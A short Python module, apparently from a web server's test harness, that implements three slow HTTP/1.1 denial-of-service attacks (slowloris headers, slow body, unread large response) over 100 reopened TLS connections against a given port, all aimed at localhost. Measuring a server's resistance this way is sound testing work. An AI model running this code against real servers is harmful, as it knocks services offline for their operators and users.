"""Slow attacks over HTTP/1.1. Each function has the front's TLS port and runs until its process is ended; one attacker has 100 connections."""

import time

from web import h1

CONNECTIONS = 100


def drip(port, first, piece, receive_buffer=None):
    """100 connections: `first` at once, then `piece` ten times a second on each; a closed one is opened again. Nothing is read."""
    open_ones = []
    while True:
        while len(open_ones) < CONNECTIONS:
            try:
                connection = h1.Connection(port, tls=True, receive_buffer=receive_buffer)
            except OSError:
                break
            connection.send(first)
            open_ones.append(connection)
        time.sleep(0.1)
        for connection in list(open_ones):
            try:
                connection.socket.settimeout(0.01)
                connection.socket.sendall(piece) if piece else None
            except OSError:
                connection.close()
                open_ones.remove(connection)


def slow_head(port):
    """A head that comes byte by byte (slowloris)."""
    drip(port, b"GET /bytes?n=10 HTTP/1.1\r\nHost: localhost\r\nX: ", b"y")


def slow_body(port):
    """Content that comes byte by byte."""
    drip(port, b"POST /sum HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n", b"y")


def slow_reader(port):
    """A large response that is requested and not read."""
    # Small enough that the backend, on the core of the other client, is soon done with it.
    drip(port, b"GET /bytes?n=1000000 HTTP/1.1\r\nHost: localhost\r\n\r\n", b"", receive_buffer=4096)


ATTACKS = {"slow head": slow_head, "slow body": slow_body, "slow reader": slow_reader}
